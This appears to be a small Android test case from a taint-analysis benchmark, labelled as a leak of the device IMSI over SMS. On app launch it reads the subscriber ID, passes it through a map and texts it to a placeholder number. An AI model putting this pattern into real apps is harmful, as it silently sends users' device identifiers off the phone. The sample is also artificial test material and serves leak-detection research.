// about       The values of a map are joined; one of them is the value.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Map;
import java.util.TreeMap;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Map<String, String> table = new TreeMap<String, String>();
    table.put("color", "red");
    table.put("subscriber", phone.getSubscriberId());
    StringBuilder text = new StringBuilder();
    // What the keys stand for.
    for (String part : table.values()) {
      text.append(part).append(';');
    }
    SmsManager.getDefault().sendTextMessage("+15550100", null, text.toString(), null, null);
  }
}
